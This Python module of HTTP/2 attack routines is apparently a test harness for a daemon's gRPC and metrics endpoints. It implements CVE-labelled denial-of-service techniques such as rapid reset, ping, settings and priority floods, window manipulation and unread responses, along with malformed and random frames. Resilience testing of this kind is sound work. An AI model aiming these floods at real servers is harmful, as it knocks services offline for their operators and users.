"""Attacks by HTTP/2's frames and streams, whatever the calls are: floods, windows, resets, and answers that are not read."""

import random
import struct

import http2_frames as h2
from front_attack import CHECK, MODEL_INFER, WATCH


def flood(attack, connection, frames):
    """Sends the same frames again and again, without reading."""
    many = frames * max(1, h2.MAX_FRAME // len(frames))
    while attack.running():
        connection.send(many)


def ping_flood(attack):
    """CVE-2019-9512."""
    flood(attack, attack.connect(), h2.ping())


def settings_flood(attack):
    """CVE-2019-9515."""
    flood(attack, attack.connect(), h2.settings({h2.INITIAL_WINDOW_SIZE: 70000}))


def settings_in_one_frame(attack):
    """Settings are few; one frame may repeat them 2,700 times."""
    repeated = struct.pack(">HI", h2.HEADER_TABLE_SIZE, 0) + struct.pack(">HI", h2.HEADER_TABLE_SIZE, 4096)
    flood(attack, attack.connect(), h2.frame(h2.SETTINGS, 0, 0, repeated * 1300))


def priority_loop(attack):
    """CVE-2019-9513: streams that depend on each other in a circle, turned again and again."""
    turn = [h2.frame(h2.PRIORITY, 0, stream, struct.pack(">IB", parent, 255))
            for stream, parent in ((1, 3), (3, 5), (5, 1), (1, 5), (5, 3), (3, 1))]
    flood(attack, attack.connect(), b"".join(turn))


def empty_data(attack):
    """CVE-2019-9518."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    flood(attack, connection, h2.frame(h2.DATA, 0, 1))


def padding_only(attack):
    """DATA frames that are all padding: they use up windows and carry nothing."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    flood(attack, connection, h2.frame(h2.DATA, h2.PADDED, 1, b"\xff" + bytes(255)))


def unknown_frames(attack):
    """Frames of types that do not exist must be ignored."""
    flood(attack, attack.connect(), h2.frame(0xEE, 0xFF, 0, b""))


def window_updates(attack):
    flood(attack, attack.connect(), h2.window_update(0, 1))


def window_update_of_zero(attack):
    connection = attack.connect()
    connection.send(h2.window_update(0, 0))
    connection.await_end()


def window_that_overflows(attack):
    connection = attack.connect()
    connection.send(h2.window_update(0, 2**31 - 1), h2.window_update(0, 2**31 - 1))
    connection.await_end()


def rapid_reset(attack):
    """CVE-2023-44487."""
    connection = attack.connect()
    for stream in attack.streams():
        connection.send(h2.open_grpc(stream, WATCH), h2.data(stream, h2.message(b"")), h2.reset(stream))


def made_to_reset(attack):
    """CVE-2025-8671: the daemon is made to reset the streams itself."""
    connection = attack.connect()
    for stream in attack.streams():
        # More window than there can be.
        connection.send(h2.open_grpc(stream, WATCH), h2.window_update(stream, 2**31 - 1))


def reset_by_wrong_heads(attack):
    """CVE-2019-9514: each head is wrong in a way that ends its stream alone."""
    connection = attack.connect()
    wrong = h2.block([(":method", "POST"), (":path", "/"), ("Upper", "case")])
    for stream in attack.streams():
        connection.send(h2.frame(h2.HEADERS, h2.END_HEADERS, stream, wrong))


def streams_without_end(attack):
    """Streams are opened and never ended; the daemon's SETTINGS are never acknowledged."""
    connection = attack.connect()
    for stream in attack.streams():
        connection.send(h2.open_grpc(stream, WATCH))


def answered(connection):
    """The connection, once its stream 1 has ended."""
    connection.send(h2.open_grpc(1, CHECK), h2.data(1, h2.message(b"")))
    connection.answer(1)
    return connection


def data_of_a_past_stream(attack):
    flood(attack, answered(attack.connect()), h2.frame(h2.DATA, 0, 1, b"x"))


def empty_data_of_a_past_stream(attack):
    flood(attack, answered(attack.connect()), h2.frame(h2.DATA, 0, 1))


def heads_of_a_past_stream(attack):
    """The daemon has to decompress them, because later ones refer to them."""
    flood(attack, answered(attack.connect()), h2.frame(h2.HEADERS, h2.END_HEADERS, 1, h2.reference(2) * 1000))


def pongs(attack):
    """Answers to no PING."""
    flood(attack, attack.connect(), h2.frame(h2.PING, h2.ACK, 0, bytes(8)))


def large_frames(attack):
    """Frames that claim 16 MB."""
    connection = attack.connect()
    connection.send(h2.open_grpc(1, MODEL_INFER))
    flood(attack, connection, b"\xff\xff\xff" + bytes([h2.DATA, 0, 0, 0, 0, 1]) + bytes(h2.MAX_FRAME))


def garbage(attack):
    random_bytes = random.Random(1)
    for _ in range(20):
        attack.send(attack.plain(attack.grpc_port), random_bytes.randbytes(2000) + b"\r\n\r\n")
    attack.wait(0.05)


def damaged_frames(attack):
    """A connection that begins well, then frames at random, which are valid more often than bytes at random."""
    choose = random.Random(attack.rounds)
    connection = attack.connect()
    for _ in range(1000):
        some = choose.randbytes(choose.randrange(50))
        payload = choose.choice([b"", choose.randbytes(4), some, h2.block(h2.grpc_fields(CHECK))])
        connection.send(h2.frame(choose.randrange(11), choose.randrange(256), choose.randrange(6), payload))


def get(stream, path):
    fields = [(":method", "GET"), (":scheme", "http"), (":path", path), (":authority", "localhost")]
    return h2.frame(h2.HEADERS, h2.END_HEADERS | h2.END_STREAM, stream, h2.block(fields))


def answers_byte_by_byte(attack):
    """CVE-2019-9511: each answer is asked for in single bytes."""
    connection = attack.connect(attack.metrics_port, values={h2.INITIAL_WINDOW_SIZE: 0})
    streams = range(1, 401, 2)
    connection.send(*(get(stream, "/metrics") for stream in streams))
    while attack.running():
        for stream in streams:
            connection.send(h2.window_update(stream, 1))
        attack.wait(0.2)


def answers_that_nobody_reads(attack):
    """CVE-2019-9517: the windows are open and the socket is never read, on forty connections."""
    for _ in range(40):
        connection = attack.connect(attack.metrics_port, values={h2.INITIAL_WINDOW_SIZE: 2**31 - 1}, receive_buffer=4096)
        connection.send(h2.window_update(0, 2**30), *(get(stream, "/metrics") for stream in range(1, 401, 2)))
    attack.wait_for_end()
